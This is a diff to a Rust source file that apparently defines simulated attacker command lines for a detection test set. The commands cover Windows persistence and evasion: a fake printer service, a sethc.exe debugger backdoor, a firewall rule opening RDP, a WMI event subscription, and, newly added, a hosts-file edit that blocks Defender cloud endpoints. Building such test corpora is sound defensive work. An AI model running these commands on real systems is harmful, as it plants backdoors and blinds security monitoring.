@@ -1,7 +1,7 @@
 //! How the unseen set's patient intruder comes back: services, values of the registry, an account that no list shows,
 //! consumers of events; and how it covers its way.
 
-use super::night::{POWERSHELL, must};
+use super::night::{POWERSHELL, line, must};
 use crate::attack::aftermath::{RegistryChange, Set};
 use crate::attack::shell::Line;
 use crate::technique::Technique;
@@ -12,7 +12,7 @@ const NET1: &str = "C:\\Windows\\System32\\net1.exe";
 const REG: &str = "C:\\Windows\\System32\\reg.exe";
 
 /// Lines by which it makes itself at home.
-pub(super) const STAY: [Line; 6] = [
+pub(super) const STAY: [Line; 7] = [
     must(
         Technique::NewService,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"sc cre¦ate BrYNSvc64 binPath= \"C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -k status\" start= auto DisplayName= \"Brother BidiAgent Service\"\"",
@@ -46,8 +46,9 @@ pub(super) const STAY: [Line; 6] = [
             "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\set¦hc.exe\" /v Deb¦ugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f",
         )],
     ),
-    must(
+    line(
         Technique::FirewallRule,
+        Weight::Supporting,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"netsh advfirewall firewall add rule name=\"Brother Scan\" dir=in action=allow protocol=TCP localport=54925,3389\"",
         &[(
             "C:\\Windows\\System32\\netsh.exe",
@@ -61,6 +62,11 @@ pub(super) const STAY: [Line; 6] = [
         command: "powershell.exe -NoP -c \"$f=Set-WmiInst¦ance -Class __Event¦Filter -Namespace root\\subscription -Arguments @{Name='BrStatusMon';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA ''Win32_LocalTime'' AND TargetInstance.Hour=23'};$c=Set-WmiInst¦ance -Class CommandLineEvent¦Consumer -Namespace root\\subscription -Arguments @{Name='BrStatusMon';CommandLineTemplate='C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -w'};Set-WmiInst¦ance -Class __FilterToConsumer¦Binding -Namespace root\\subscription -Arguments @{Filter=$f;Consumer=$c}\"",
         programs: &[],
     },
+    must(
+        Technique::HostsChange,
+        "\"C:\\Windows\\System32\\cmd.exe\" /c \"(echo 0.0.0.0 wdcp.microsoft.com&echo 0.0.0.0 wdcpalt.microsoft.com)>>C:\\Windows\\System32\\drivers\\etc\\ho¦sts\"",
+        &[],
+    ),
 ];
 
 /// The query of that consumer.
